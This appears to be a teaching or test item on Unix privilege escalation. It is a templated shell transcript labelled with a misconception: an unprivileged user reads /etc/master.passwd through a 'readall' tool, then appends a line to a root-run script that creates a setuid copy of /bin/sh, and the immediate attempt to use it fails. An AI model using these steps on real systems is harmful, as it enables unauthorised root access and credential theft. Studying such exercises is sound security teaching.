fails: key everything
misconception: A planted line has its effect at once.

  $ su {user} -c '/usr/local/bin/readall /etc/master.passwd' | head -1
  root::0:0::0:0:Charlie &:/root:/bin/sh
  $ su {user} -c 'echo "cp /bin/sh /tmp/key; chmod 4755 /tmp/key" | /usr/local/bin/writeall -a /usr/local/sbin/{script}'
  cp /bin/sh /tmp/key; chmod 4755 /tmp/key
  $ su {user} -c "/tmp/key -c 'hostname taken'"
  su: /tmp/key: not found
  [127]
